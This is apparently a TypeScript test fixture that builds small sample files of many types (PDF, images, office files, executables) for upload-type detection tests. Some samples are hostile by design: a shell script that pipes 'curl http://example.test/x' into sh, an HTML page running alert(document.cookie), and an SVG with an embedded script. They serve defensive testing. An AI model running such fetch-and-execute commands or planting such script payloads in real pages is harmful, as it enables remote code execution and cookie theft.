/*
 * Small files of each kind, built from their real leading bytes, for the upload tests. Each is a few
 * hundred bytes: enough for type detection, which reads the start of a file (and an office file's ZIP structure).
 */
import { strToU8, zipSync, type Zippable } from "fflate";

const officeMain = {
  docx: ["word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"],
  xlsx: ["xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"],
  pptx: ["ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"],
  docm: ["word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"],
} as const;

/**
 * A minimal office file as Word, Excel or PowerPoint write it: `[Content_Types].xml` declaring the main part,
 * the package relationships and the main part, deflated; `extra` entries are added as given.
 */
export function officeFile(kind: keyof typeof officeMain, extra: Zippable = {}): Uint8Array {
  const [part, contentType] = officeMain[kind];
  const contentTypes =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    `<Override PartName="/${part}" ContentType="${contentType}"/></Types>`;
  const rels =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${part}"/></Relationships>`;
  return zipSync({
    "[Content_Types].xml": strToU8(contentTypes),
    "_rels/.rels": strToU8(rels),
    [part]: strToU8(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><root>${"Kontrata ng serbisyo. ".repeat(20)}</root>`),
    ...extra,
  });
}
const bytes = (...parts: (string | number[])[]) => new Uint8Array(parts.flatMap((p) => (typeof p === "string" ? [...Buffer.from(p, "latin1")] : p)));
const padding = (n: number) => new Array<number>(n).fill(0x20);

export const sampleFiles = {
  pdf: bytes("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
  jpeg: bytes([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], "JFIF\0", padding(64), [0xff, 0xd9]),
  png: bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13], "IHDR", padding(64)),
  webp: bytes("RIFF", [0x40, 0, 0, 0], "WEBPVP8 ", padding(64)),
  heic: bytes([0, 0, 0, 0x18], "ftypheic", [0, 0, 0, 0], "mif1heic", padding(64)),
  docx: officeFile("docx"),
  xlsx: officeFile("xlsx"),
  docm: officeFile("docm", { "word/vbaProject.bin": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]) }),
  zip: zipSync({ "payload/readme.txt": strToU8("Just a zip.") }),
  windowsExe: bytes("MZ", [0x90, 0, 3, 0], padding(56), "PE\0\0", padding(64)),
  elf: bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], padding(64)),
  machO: bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1], padding(64)),
  machOFat: bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2], padding(64)),
  shellScript: bytes("#!/bin/sh\ncurl http://example.test/x | sh\n"),
  html: bytes("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"),
  svg: bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  text: bytes("Just some notes about the installation.\n"),
  gif: bytes("GIF89a", padding(64)),
};
